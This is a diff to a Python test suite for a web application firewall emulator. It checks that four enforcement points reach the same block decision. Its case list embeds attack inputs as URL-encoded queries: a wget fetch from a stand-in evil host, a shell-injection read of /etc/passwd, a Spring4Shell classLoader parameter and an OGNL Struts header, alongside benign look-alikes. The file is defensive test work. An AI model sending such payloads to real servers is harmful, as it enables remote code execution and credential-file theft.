@@ -141,6 +141,55 @@ def protected(server: ServerProcess, upstream: Backend) -> tuple[str, dict[str, 
     return f"/restapis/{api['id']}", acl
 
 
+def _decisions(
+    server: ServerProcess, prefix: str, engine: WebAclEvaluator, middleware: WafMiddleware, proxy: Proxy, case: Any
+) -> tuple[bool, bool, bool, bool]:
+    """Blocked? in process, at the stage, at the proxy, in the ASGI middleware."""
+    path, _, query = case["path"].partition("?")
+    request = WafRequest(
+        method=case["method"], uri_path=path, query_string=query, headers=tuple(case["headers"]), body=case["body"]
+    )
+    in_process = engine.evaluate(request, now=time.time()).action == "BLOCK"
+    status, headers, _ = _send(
+        server.port, prefix, {**case, "path": case["path"].replace(f"/{STAGE}", f"/{STAGE}/_user_request_", 1)}
+    )
+    at_stage = status == 403 and headers.get("x-amzn-errortype", "").startswith("ForbiddenException")
+    at_proxy = _send(proxy.port, "", case)[0] == 403
+    return in_process, at_stage, at_proxy, _asgi_blocked(middleware, case)
+
+
+BROWSER = [("Host", HOST), ("User-Agent", "Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Firefox/125.0")]
+# (query or header, blocked?): Unix commands need shell context, Java EL RCE, English with command words,
+# quoted phrases and parentheticals (docs/waf-managed-rules.md)
+OWN_CASES = [
+    ("q=python%20-c%20%27import%20os%27", None, True),
+    ("q=wget%20evil.example%2Fx%20-O%20%2Ftmp%2Fx", None, True),
+    ("q=www.example.com%3B%2Fbin%2Fca%3F%20%2Fet%2A%2Fpasswd", None, True),
+    ("class.module.classLoader.resources.context.parent.pipeline.first.pattern=x", None, True),
+    ("", ("Content-Type", "%{(#nike='multipart/form-data').(#dm=@ognl"), True),
+    ("q=echo%20dot%20speaker", None, False),
+    ("q=python%20tutorial", None, False),
+    ("q=%22red%20dress%22", None, False),
+    ("q=Ordered%20the%202-pack%20%28not%20the%203-pack%29%20by%20mistake", None, False),
+]
+
+
+def test_detection_changes_decide_the_same_at_every_enforcement_point(
+    server: ServerProcess, protected: tuple[str, dict[str, Any]], upstream: Backend, tmp_path: Path
+) -> None:
+    prefix, acl = protected
+    engine, middleware = WebAclEvaluator(acl), WafMiddleware(_ok_app, acl)
+    proxy = Proxy(server, acl["ARN"], upstream.url, tmp_path / "proxy.log")
+    try:
+        for query, header, blocked in OWN_CASES:
+            headers = BROWSER + ([header] if header else [])
+            case = {"method": "GET", "path": f"/{STAGE}/search" + (f"?{query}" if query else ""), "headers": headers}
+            got = _decisions(server, prefix, engine, middleware, proxy, {**case, "body": b""})
+            assert got == (blocked,) * 4, (query, header, got)
+    finally:
+        proxy.stop()
+
+
 def test_the_crs_sample_gets_the_same_decision_at_every_enforcement_point(
     server: ServerProcess, protected: tuple[str, dict[str, Any]], upstream: Backend, tmp_path: Path
 ) -> None:
@@ -154,21 +203,7 @@ def test_the_crs_sample_gets_the_same_decision_at_every_enforcement_point(
         disagreements = []
         blocked_positives = positives = 0
         for case in cases:
-            path, _, query = case["path"].partition("?")
-            request = WafRequest(
-                method=case["method"],
-                uri_path=path,
-                query_string=query,
-                headers=tuple(case["headers"]),
-                body=case["body"],
-            )
-            in_process = engine.evaluate(request, now=time.time()).action == "BLOCK"
-            status, headers, _ = _send(
-                server.port, prefix, {**case, "path": case["path"].replace(f"/{STAGE}", f"/{STAGE}/_user_request_", 1)}
-            )
-            at_stage = status == 403 and headers.get("x-amzn-errortype", "").startswith("ForbiddenException")
-            at_proxy = _send(proxy.port, "", case)[0] == 403
-            in_asgi = _asgi_blocked(middleware, case)
+            in_process, at_stage, at_proxy, in_asgi = _decisions(server, prefix, engine, middleware, proxy, case)
             if len({in_process, at_stage, at_proxy, in_asgi}) != 1:
                 disagreements.append((case["test_title"], in_process, at_stage, at_proxy, in_asgi))
             if case["positive"] and case["file"][8:11] in APPLICATION_ATTACKS:
